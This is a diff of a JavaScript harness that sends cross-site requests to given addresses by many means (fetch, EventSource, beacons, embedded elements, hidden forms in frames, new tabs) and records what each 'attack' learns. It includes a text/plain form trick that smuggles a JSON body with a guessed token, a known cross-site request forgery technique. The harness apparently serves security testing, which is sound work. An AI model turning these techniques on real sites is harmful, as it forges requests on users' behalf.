@@ -42,10 +42,8 @@ const BEACONS = {
 };
 
 const FORMS = {
-  "form-get": { method: "GET" },
-  "form-post": { method: "POST" },
-  "form-post-text": { method: "POST", enctype: "text/plain" },
-  "form-post-multipart": { method: "POST", enctype: "multipart/form-data" },
+  "form": {},
+  "form-text": { enctype: "text/plain" },
 };
 
 const named = (url, attack) => `${url}?attack=${attack}`;
@@ -86,10 +84,10 @@ function textOf(frame) {
 }
 
 function sendForm(url, attack, properties) {
-  const form = append("form", { action: named(url, attack), ...properties });
-  for (const [name, value] of [["attack", attack], ['{"token": "guess', '"}']]) {
-    form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
-  }
+  const form = append("form", { action: named(url, attack), method: "POST", ...properties });
+  // As text/plain this is JSON.
+  const smuggled = { type: "hidden", name: '{"token": "guess', value: '"}' };
+  form.append(Object.assign(document.createElement("input"), smuggled));
   form.submit();
 }
 
@@ -106,8 +104,7 @@ function byBeacon(url, body) {
   return null;
 }
 
-// {attack: what was learned} of everything against one address. Frames are dear, so only the address's own method
-// is tried in them.
+// Everything against one address. Frames are dear, so in them goes what the address is for, a GET or a POST.
 async function attackOne({ url, method }) {
   const trials = {
     events: byChannel(new EventSource(named(url, "events"))),
@@ -116,13 +113,13 @@ async function attackOne({ url, method }) {
   for (const [attack, options] of Object.entries(FETCHES)) trials[attack] = byFetch(named(url, attack), options);
   for (const [attack, make] of Object.entries(ELEMENTS)) trials[attack] = byElement(make(named(url, attack)));
   for (const [attack, body] of Object.entries(BEACONS)) trials[attack] = byBeacon(named(url, attack), body);
-  for (const [attack, properties] of Object.entries(FORMS)) {
-    if (properties.method !== method) continue;
-    trials[attack] = byFrame((frame) => sendForm(url, attack, { ...properties, target: frame.name }));
-  }
   if (method === "GET") {
     trials.frame = byFrame((frame) => { frame.src = named(url, "frame"); });
     trials.object = byElement(["object", { data: named(url, "object") }]);
+  } else {
+    for (const [attack, properties] of Object.entries(FORMS)) {
+      trials[attack] = byFrame((frame) => sendForm(url, attack, { ...properties, target: frame.name }));
+    }
   }
   const learned = await Promise.all(Object.values(trials));
   return Object.keys(trials).map((attack, place) => ({ attack, url, learned: learned[place] }));
@@ -135,7 +132,7 @@ async function attack(targets) {
 // Each in a tab of its own.
 function openTabs(targets) {
   for (const { url, method } of targets) {
-    append("a", { href: named(url, "link"), target: "_blank", rel: "opener" }).click();
-    if (method === "POST") sendForm(url, "post-in-tab", { method, target: "_blank" });
+    if (method === "GET") append("a", { href: named(url, "tab"), target: "_blank", rel: "opener" }).click();
+    else sendForm(url, "tab", { target: "_blank" });
   }
 }
